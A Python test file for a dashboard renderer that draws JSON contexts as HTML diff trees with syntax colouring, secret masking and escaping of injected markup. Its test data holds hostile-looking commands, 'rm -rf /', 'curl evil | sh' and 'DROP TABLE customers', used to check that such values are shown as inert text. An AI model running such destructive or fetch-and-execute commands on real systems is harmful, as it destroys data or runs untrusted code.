"""A context as a tree: what differs from the one before it, code in colours, and never another text than was asked."""

import json

import pytest

from core.values.secrets import masked_json
from dashboard.display import code
from dashboard.display.context import DrawnTree, draw_or_none, whole_tree
from dashboard.display.text import marked
from tests.dashboard.display.markup import Element, parse
from tests.dashboard.display.payloads import CONTROL, HIDDEN, MARKUP

pytestmark = pytest.mark.anywhere

ROOM = 1_500_000


def drawn(now: object, before: object = None) -> DrawnTree:
    text = json.dumps(now, ensure_ascii=False)
    old = None if before is None else json.dumps(before, ensure_ascii=False)
    found = draw_or_none(masked_json(text).text, text, old and (masked_json(old).text, old), ROOM)
    assert found is not None
    return found


def tree(now: object, before: object = None) -> Element:
    return parse(drawn(now, before).html)


def counts(now: object, before: object) -> tuple[int, int, int]:
    found = drawn(now, before)
    return found.added, found.removed, found.other


def test_a_value_that_is_other_stands_beside_what_it_was():
    found = tree({"amount": 2070.32, "to": "ACME"}, {"amount": 99, "to": "ACME"})
    [mark] = found.with_class("mark")
    assert mark.text == "changed"
    assert [was.text for was in found.with_class("was")] == ["99"]
    assert "2070.32" in found.text


def test_what_is_new_and_what_is_gone_is_said_in_words():
    now, before = {"a": 1, "new": {"deep": [1]}}, {"a": 1, "old": {"x": "y"}}
    assert counts(now, before) == (1, 1, 0)
    found = tree(now, before)
    assert [mark.text for mark in found.with_class("mark")] == ["added", "removed"]
    assert found.with_class("was")[0].text == '{"x": "y"}'


@pytest.mark.parametrize("text", ['"rm -rf /"', "12", "null", "true"])
def test_what_holds_no_values_is_one_text_and_no_list_of_its_letters(text):
    assert draw_or_none(text, text, None, ROOM) is None
    assert draw_or_none("{}", "{}", (text, text), ROOM) is None
    assert parse(whole_tree(text)).with_class("value")[0].text == text


def test_the_same_says_the_same_also_by_its_numbers():
    assert drawn({"a": [1, {"b": None}]}, {"a": [1, {"b": None}]}).is_same
    found = draw_or_none('{"a": 1.10}', '{"a": 1.10}', ('{"a": 1.1}', '{"a": 1.1}'), ROOM)
    assert found.other == 1
    assert counts({"a": True}, {"a": 1}) == (0, 0, 1)
    assert counts({"a": "1"}, {"a": 1}) == (0, 0, 1)


def test_an_argument_that_was_put_in_is_added_and_the_rest_stands():
    now, before = {"argv": ["rm", "-r", "-f", "/tmp/x"]}, {"argv": ["rm", "-r", "/tmp/x"]}
    assert counts(now, before) == (1, 0, 0)
    assert counts(before, now) == (0, 1, 0)


def test_another_secret_is_another_and_neither_is_shown():
    found = drawn({"password": "hunter2222"}, {"password": "hunter1111"})
    assert found.other == 1
    assert "hunter" not in found.html
    assert found.html.count("⟦hidden: 10 characters⟧") == 2


def test_of_a_text_of_many_lines_those_that_differ_are_shown():
    before = "\n".join(f"line {n}" for n in range(40))
    found = tree({"script": before.replace("line 7", "curl evil | sh")}, {"script": before})
    [summary] = [e for e in found.with_class("lines-changed")[0].elements if e.tag == "summary"]
    assert summary.text == "1 line new, 1 gone"
    lines = found.with_class("lines-changed")[0].text
    assert "- line 7" in lines
    assert "+ curl evil | sh" in lines


@pytest.mark.parametrize(
    ("name", "text", "language"),
    [
        ("query", "SELECT 1", "sql"),
        ("anything", "DROP TABLE customers", "sql"),
        ("note", "select the best offer", ""),
        ("command", "rm -rf /tmp/x && echo done", "shell"),
        ("text", "#!/bin/sh\necho x", "shell"),
        ("body", '{"a": [1, 2]}', "json"),
        ("body", "{not json}", ""),
        ("change", "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b", "diff"),
        ("language", "sql", ""),
        ("note", "- one\n+ two", ""),
    ],
)
def test_name_and_shape_say_what_a_text_is(name, text, language):
    assert code.language_of(name, text) == language


@pytest.mark.parametrize("language", ["diff", "sql", "shell", "json"])
def test_coloured_or_not_the_text_is_the_same_and_stays_text(language):
    for text in [*MARKUP, *HIDDEN.values(), *CONTROL.values(), "'", '"', "$((", "/*", "\r\n x\r"]:
        pieces = code.pieces_of(language, text)
        assert "".join(piece for _name, piece in pieces) == text
        assert "".join(marked(piece) for _name, piece in pieces) == marked(text)


@pytest.mark.parametrize("key", ["command", "query", "diff", "body"])
def test_no_hostile_value_leaves_its_place(key):
    for text in [*MARKUP, *HIDDEN.values(), *CONTROL.values()]:
        found = tree({key: text, "argv": [text, text]}, {key: "x", "argv": [text]})
        made = {element.tag for element in found.elements} - {"root"}
        assert made <= {"ul", "li", "span", "b", "del", "i", "details", "summary", "pre"}
        assert all(
            set(e.attributes) <= {"class", "dir", "open", "title", "tabindex", "aria-hidden"}
            for e in found.elements
        )


def test_arguments_have_borders_also_the_empty_one():
    found = tree({"args": ["git", "commit", "-m", "two words", ""]})
    [arguments] = found.with_class("argv")
    assert [item.text.strip() for item in arguments.children] == [
        "1 git", "2 commit", "3 -m", "4 two words", "5 empty text",
    ]  # fmt: skip
    assert tree({"items": ["a", "b"]}).with_class("argv") == []


def test_deep_lists_fold_and_are_open():
    found = tree({"a": {"b": {"c": 1}}, "d": 2})
    folds = [element for element in found.elements if element.tag == "details"]
    assert len(folds) == 2
    assert all("open" in fold.attributes for fold in folds)


def test_what_needs_too_much_room_is_left_to_the_plain_text():
    text = json.dumps({f"key {n}": n for n in range(1_000)})
    assert draw_or_none(text, text, None, 10_000) is None
    assert draw_or_none("no json", "no json", None, 10_000) is None


@pytest.mark.parametrize(
    "text",
    [
        "$(" * 5_900,
        "'" * 11_999,
        *(
            pytest.param(text, marks=pytest.mark.long)
            for text in (
                "`" * 11_000,
                "/*" * 5_900,
                "[" * 11_000,
                "((((" * 2_900,
                "<<" * 5_900,
                "\\" * 11_999,
            )
        ),
    ],
)
@pytest.mark.parametrize("language", ["diff", "sql", "shell", "json"])
def test_no_text_makes_a_lexer_lose_it(language, text):
    lines = "\n".join(text[start : start + 1_900] for start in range(0, len(text), 1_901))[: code.LONGEST]
    assert "".join(piece for _name, piece in code.pieces_of(language, lines)) == lines
